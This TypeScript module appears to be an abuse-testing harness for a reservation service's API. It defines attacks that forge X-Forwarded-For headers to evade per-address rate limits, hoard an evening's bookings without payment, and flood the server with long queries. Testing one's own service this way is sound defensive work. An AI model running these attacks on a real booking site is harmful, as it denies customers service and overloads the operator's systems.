import { customer, eveningDate, everybody, longQuestion, session } from './target.ts';
import type { Attack, Send } from './target.ts';

let addresses = 0;

/** Each request from an address of its own, so that no limit of a network counts. */
function elsewhere(): Record<string, string> {
  addresses += 1;
  return { 'x-forwarded-for': `100.${64 + (addresses >> 16)}.${(addresses >> 8) & 255}.${addresses & 255}` };
}

async function loggedIn(send: Send): Promise<Record<string, string>> {
  const login = await send<{ accessToken: string }>('POST', '/api/customers/login', {
    body: customer,
    headers: elsewhere(),
  });
  return { authorization: `Bearer ${login.data.accessToken}` };
}

type Held = { id: string; session: { id: string } };

const evening = { personCount: 12, date: eveningDate, startTime: '17:00', endTime: '20:00' };

/** Books the evening without paying, twelve places at a time, and lets go what it may not book. */
const sellOutByAccount: Attack = {
  what: 'sell out an evening with one account from many addresses',
  clients: 4,
  begin: async (send) => {
    const authorization = await loggedIn(send);
    const path = '/api/reservation/avondentree';
    return async () => {
      const held = await send<Held>('POST', path, { body: evening, headers: elsewhere() });
      if (held.status !== 201) return;
      const body = { entryId: '1004', activityId: '2004', persons: everybody };
      await send('PUT', `${path}/checkin`, { body, headers: { ...session(held), ...elsewhere() } });
      const linked = await send<Held>('POST', `${path}/customer`, {
        headers: { ...session(held), ...authorization, ...elsewhere() },
      });
      const headers = () => ({ ...session(linked), ...authorization, ...elsewhere() });
      await send('POST', `${path}/prepare`, { body: { flowId: 'avondentree' }, headers: headers() });
      const booked = await send('POST', `/api/checkout/${held.data.id}/onlocation`, { headers: headers() });
      if (booked.status !== 200) await send('DELETE', path, { headers: headers() });
    };
  },
};

/** Holds the evening in every flow that has one. */
const sellOutBySession: Attack = {
  what: 'sell out an evening with one session from many addresses',
  clients: 4,
  begin: async (send) => {
    const first = await send<Held>('POST', '/api/reservation/avondentree', { body: evening, headers: elsewhere() });
    const own = session(first);
    const body = { entryId: '1004', activityId: '2004', persons: everybody };
    await send('PUT', '/api/reservation/avondentree/checkin', { body, headers: { ...own, ...elsewhere() } });
    let count = 0;
    return async () => {
      count += 1;
      const slug = ['entree', 'ochtendbad', 'avondentree'][count % 3]!;
      await send('POST', `/api/reservation/${slug}`, { body: evening, headers: { ...own, ...elsewhere() } });
    };
  },
};

const drainBy = (what: string, identify: (send: Send) => Promise<Record<string, string>>): Attack => ({
  what: `drain the processor with ${what} from many addresses`,
  clients: 16,
  begin: async (send) => {
    const own = await identify(send);
    let count = 0;
    return async () => {
      count += 1;
      await send('GET', longQuestion(count), { headers: { ...own, ...elsewhere() } });
    };
  },
});

const heldSession = async (send: Send): Promise<Record<string, string>> => {
  const body = { personCount: 12, date: eveningDate };
  return session(await send<Held>('POST', '/api/reservation/arrangementen', { body, headers: elsewhere() }));
};

export const attacksFromAnywhere: readonly Attack[] = [
  sellOutByAccount,
  sellOutBySession,
  drainBy('one account', loggedIn),
  drainBy('one session', heldSession),
];
